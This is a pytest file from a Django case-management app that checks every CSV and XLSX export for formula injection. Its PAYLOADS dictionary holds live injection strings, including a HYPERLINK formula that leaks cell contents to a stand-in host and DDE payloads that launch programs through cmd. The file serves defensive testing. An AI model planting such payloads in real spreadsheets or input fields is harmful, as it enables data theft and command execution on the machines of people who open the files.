"""CSV/XLSX formula injection in every export: no cell of any CSV, XLSX or zipped CSV we serve starts with = + - @, a
tab or a carriage return (a spreadsheet would run it); planted payloads come back as text (a leading apostrophe).

The exports are the permission matrix's download routes and API operations (a test below fails when a new CSV or
XLSX download appears without being listed here). Payloads are planted in the free text that reaches them: a grant's
name, a campaign's name, a directory organisation and service, a service provider, and the rows of an export job.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conftest import login_client
from reclaim.accounts.models import Membership
from reclaim.core.csvsafe import FORMULA_PREFIXES
from reclaim.reporting.models import ReportJob
from tests.test_permission_matrix import API_MATRIX, MATRIX

PAYLOADS = {
    "grant": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "campaign": "+SUM(1;2)",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "service": "-2+3+cmd|' /C calc'!A0",
    "provider": "=cmd|' /C notepad'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}

# (route or API operation, persona, format of the body)
EXPORTS: list[tuple[Any, str]] = [
    ("funding:burn_down_csv", "program_director"),
    ("funding:cost_per_service_csv", "program_director"),
    ("legal:outcomes_csv", "program_director"),
    ("outreach:campaign_compare_csv", "outreach_coordinator"),
    ("referrals:directory_export_zip", "case_manager"),
    ("reporting:dashboard_csv", "program_director"),
    ("reporting:export_download", "program_director"),
    ("reporting:job_csv", "program_director"),
    ("services:log_export", "case_manager"),
    (("get", "/api/v1/exports/{job_id}/file"), "program_director"),
    (("get", "/api/v1/directory/hsds.zip"), "case_manager"),
]
BOTH_FORMATS = {"reporting:export_download", ("get", "/api/v1/exports/{job_id}/file")}
# Downloads that are not spreadsheets: a document, a campaign material (the uploaded file itself), the HSDS JSON, the
# FHIR bundle, the calendar feed, a printable page.
NOT_SPREADSHEETS = {
    "documents:download",
    "outreach:campaign_material_download",
    "referrals:directory_export",
    "referrals:print",
    "reporting:exports",
    "reporting:export_run",
    "interop:case_fhir",
    "scheduling:ical_feed",
    ("get", "/api/v1/cases/{case_id}/fhir"),
    ("get", "/api/v1/directory/hsds"),
    ("post", "/api/v1/directory/hsds"),
    ("post", "/api/v1/directory/hsds.zip"),
    ("post", "/api/v1/exports/run"),
}


def _looks_like_a_download(key: Any) -> bool:
    text = key if isinstance(key, str) else key[1]
    return any(word in text for word in ("csv", "export", "download", "zip", "xlsx", "hsds", "fhir", "ical", "print"))


def test_every_download_is_checked_or_named():
    # given every route and API operation whose name says it downloads; then each is checked below or named as no
    # spreadsheet
    downloads = {name for name in MATRIX if _looks_like_a_download(name)}
    downloads |= {op for op in API_MATRIX if _looks_like_a_download(op)}
    assert downloads == {key for key, _p in EXPORTS} | NOT_SPREADSHEETS


def _plant(objects: dict[str, Any]) -> None:
    from reclaim.funding.actions import GrantValues, do_create_grant
    from reclaim.outreach import campaigns_actions as outreach
    from reclaim.referrals import directory_actions as directory
    from reclaim.services.actions import ServiceEntry, do_record_service

    agency = objects["case"].agency
    admin = Membership.objects.get(agency=agency, role="agency_admin").user
    coordinator = Membership.objects.get(agency=agency, role="outreach_coordinator").user
    case_manager = objects["_case_manager"]
    objects["funding_grant"] = do_create_grant(
        actor=case_manager, agency=agency, values=GrantValues(name=PAYLOADS["grant"]), known_categories=[]
    )
    outreach.do_create_campaign(
        actor=coordinator, agency=agency, values=outreach.CampaignValues(name=PAYLOADS["campaign"])
    )
    org = directory.do_create_organization(
        actor=admin, agency=agency, data=directory.OrganizationInput(name=PAYLOADS["organisation"])
    )
    directory.do_save_service(
        actor=admin,
        organization=org,
        data=directory.ServiceInput(name=PAYLOADS["service"], category_code="physical_healthcare"),
    )
    do_record_service(
        actor=case_manager,
        case=objects["case"],
        entry=ServiceEntry(
            "education.esl",
            date(2026, 1, 5),
            provision="referred",
            provider_organisation=PAYLOADS["provider"],
            grant_id=objects["funding_grant"].pk,
        ),
    )
    director = Membership.objects.get(role="program_director", agency=agency).user
    objects["export_job"] = ReportJob.objects.create(
        agency=agency,
        kind="export",
        created_by=director,
        status="done",
        result={
            "period": "2025",
            "columns": ["rowNumber", "gender", "note"],
            "rows": [[PAYLOADS["grant"], PAYLOADS["tab"], PAYLOADS["cr"]], ["-1", "@me", "+1"]],
            "summary": {"k": 11},
        },
    )


def _cells(response: Any) -> list[str]:
    """Every cell of a CSV, an XLSX or a zip of CSVs, as text."""
    body = response.content if not response.streaming else b"".join(response.streaming_content)
    content_type = response["Content-Type"]
    if body[:2] == b"PK" and "spreadsheetml" in content_type:
        workbook = load_workbook(io.BytesIO(body))
        return [
            cell.value if isinstance(cell.value, str) else ("=" if cell.data_type == "f" else "")
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    if body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            texts = [archive.read(n).decode("utf-8-sig") for n in archive.namelist() if n.endswith(".csv")]
        assert texts
    else:
        assert "text/csv" in content_type, content_type
        texts = [body.decode("utf-8-sig")]
    return [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _fetch(key: Any, persona: str, personas: dict[str, Any], objects: dict[str, Any], fmt: str) -> Any:
    client = login_client(personas[persona])
    if isinstance(key, str):
        method, build_url, _table = MATRIX[key]
        url = build_url(objects)
        if key == "reporting:export_download":
            url = reverse(key, args=[objects["export_job"].pk, fmt])
        return getattr(client, method)(url)
    url = API_MATRIX[key][0](objects)
    return client.get(f"{url}?format={fmt}")


@pytest.fixture
def planted(objects):
    _plant(objects)
    return objects


def test_no_export_cell_can_run_as_a_formula(personas, planted):
    cells_seen, dangerous, payloads_seen = 0, {}, set()
    for key, persona in EXPORTS:
        for fmt in ("csv", "xlsx") if key in BOTH_FORMATS else ("csv",):
            # when the persona downloads the export
            response = _fetch(key, persona, personas, planted, fmt)
            assert response.status_code == 200, (key, fmt, response.status_code)
            cells = _cells(response)
            cells_seen += len(cells)
            # then no cell starts with a formula character
            bad = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
            if bad:
                dangerous[f"{key} {fmt}"] = bad[:3]
            payloads_seen |= {name for name, text in PAYLOADS.items() for cell in cells if cell == "'" + text}
    assert dangerous == {}
    # and the planted payloads did reach the files, as text (so the check above had something to catch)
    assert cells_seen > 100
    assert payloads_seen >= {"grant", "campaign", "organisation", "service", "provider", "tab", "cr"}
